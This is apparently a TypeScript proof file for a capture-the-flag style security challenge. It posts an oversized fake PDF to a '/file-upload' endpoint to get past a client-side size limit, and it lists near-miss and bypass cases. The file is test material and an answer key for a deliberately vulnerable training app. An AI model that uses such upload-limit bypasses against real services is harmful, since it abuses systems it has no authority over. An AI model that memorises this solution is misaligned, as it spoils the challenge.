import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

function send(attacker: Attacker, bytes: number, name = 'invoice.pdf'): Promise<unknown> {
  const content = new Uint8Array(bytes)
  content.set(Buffer.from('%PDF-1.7\n'))
  const form = new FormData()
  form.append('file', new Blob([content], { type: 'application/pdf' }), name)
  return attacker.post('/file-upload', form)
}

export const proof = prove(challenge, {
  exploit: (attacker) => send(attacker, 150_000),
  nearMisses: {
    'a small invoice': (attacker) => send(attacker, 5_000),
    'the largest invoice that the form takes': (attacker) => send(attacker, 100_000),
    'a file that is too large for the server itself': (attacker) => send(attacker, 200_001),
    'a large file in another field': (attacker) => {
      const form = new FormData()
      form.append('invoice', new Blob([new Uint8Array(150_000)]), 'invoice.pdf')
      return attacker.post('/file-upload', form)
    },
    'a small file with a large name': (attacker) => send(attacker, 100, `${'a'.repeat(5_000)}.pdf`),
  },
  bypasses: {
    'lower-the-last-resort': (attacker) => send(attacker, 100_001),
  },
})
